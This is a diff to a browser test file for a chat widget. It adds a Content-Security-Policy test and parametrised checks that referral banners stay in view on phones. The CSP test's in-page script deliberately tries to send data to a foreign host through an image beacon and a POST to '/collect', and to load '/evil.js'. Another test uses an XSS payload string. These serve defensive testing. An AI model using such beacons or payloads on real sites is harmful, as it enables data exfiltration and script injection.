@@ -128,6 +128,29 @@ def test_gradio_chat_answers_with_citations(page, servers):
     assert not page.errors, page.errors
 
 
+def test_the_chat_page_may_load_and_send_nothing_to_another_origin(page, servers):
+    """The page's CSP (issue 12): an image or a request to another origin is refused, so
+    nothing on the page could carry a member's words elsewhere. (The chat itself works
+    under it with no console error: test_gradio_chat_answers_with_citations.)"""
+    page.goto(servers.api + "/")
+    expect(page.get_by_text(messages.DISCLAIMER)).to_be_visible()
+    blocked = page.evaluate("""async (elsewhere) => {
+      const seen = [];
+      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
+      const img = new Image();
+      img.src = elsewhere + "/pixel.png?q=numb";
+      document.body.append(img);
+      try { await fetch(elsewhere + "/collect", { method: "POST", body: "numb" }); } catch (_) {}
+      const s = document.createElement("script");
+      s.src = elsewhere + "/evil.js";
+      document.body.append(s);
+      await new Promise((r) => setTimeout(r, 500));
+      return seen;
+    }""", servers.stranger)
+    assert {"img-src", "connect-src", "script-src-elem"} <= set(blocked), blocked
+    page.errors.clear()  # the refusals above are logged as console errors, as they should be
+
+
 def test_html_in_a_gradio_question_is_shown_as_text_and_runs_nothing(page, servers):
     page.goto(servers.api + "/")
     question = "<img src=x onerror=window.pwned=1> <b>leg press</b> seat height?"
@@ -314,23 +337,33 @@ def _phone(browser):
                                has_touch=True)
 
 
-def test_widget_keeps_the_urgent_banner_in_view_on_a_phone(browser, servers):
+REFERRALS = pytest.mark.parametrize("message, route", [(BLADDER, "emergency"), (NUMB, "professional")])
+
+
+@REFERRALS
+def test_widget_keeps_the_referral_banner_and_first_line_in_view_on_a_phone(
+        browser, servers, message, route):
     context = _phone(browser)
     pg = context.new_page()
     try:
         open_widget(pg, servers.site)
         ask_widget(pg, QUESTION)  # some history above, as in a real chat
-        ask_widget(pg, BLADDER)
-        banner = pg.locator(f"{W} .bn.em").last
+        reply = ask_widget(pg, message)
+        banner = reply.locator(".bn." + ("em" if route == "emergency" else "pro"))
         expect(banner).to_be_visible()
-        box, log = banner.bounding_box(), pg.locator(f"{W} .m").bounding_box()
-        assert log["y"] <= box["y"] and box["y"] + box["height"] <= log["y"] + log["height"], (
-            box, log)
+        log = pg.locator(f"{W} .m").bounding_box()
+        first_line = reply.locator("p").first  # the reply's first line, under the banner
+        for part in (banner, first_line):
+            box = part.bounding_box()
+            assert log["y"] <= box["y"] and box["y"] + min(box["height"], 40) <= \
+                log["y"] + log["height"], (route, box, log)
     finally:
         context.close()
 
 
-def test_gradio_keeps_the_urgent_banner_in_view_on_a_phone(browser, servers):
+@REFERRALS
+def test_gradio_keeps_the_referral_banner_and_first_line_in_view_on_a_phone(
+        browser, servers, message, route):
     context = _phone(browser)
     pg = context.new_page()
     try:
@@ -341,12 +374,16 @@ def test_gradio_keeps_the_urgent_banner_in_view_on_a_phone(browser, servers):
         sources = pg.get_by_text(re.compile(rf"^{messages.SOURCES_LABEL} \(\d+\)$"))
         expect(sources.first).to_be_visible(timeout=20_000)
         box = pg.locator("textarea").first  # the placeholder goes once the chat has begun
-        box.fill(BLADDER)
+        box.fill(message)
         box.press("Enter")
-        banner = pg.locator(".route-banner.route-emergency").last
+        banner = pg.locator(f".route-banner.route-{route}").last
         expect(banner).to_be_visible(timeout=30_000)
         pg.wait_for_timeout(1500)  # Gradio's own scroll, then ours
         top = banner.evaluate("e => e.getBoundingClientRect().top")
-        assert 0 <= top < 844 - 40, f"the banner is out of view (top {top})"
+        assert 0 <= top < 844 - 40, f"the {route} banner is out of view (top {top})"
+        # The first line of the reply follows the banner, and is in view too.
+        line = banner.evaluate(
+            "e => { const n = e.nextElementSibling; return n ? n.getBoundingClientRect().top : -1 }")
+        assert 0 <= line < 844 - 40, f"the {route} reply's first line is out of view (top {line})"
     finally:
         context.close()
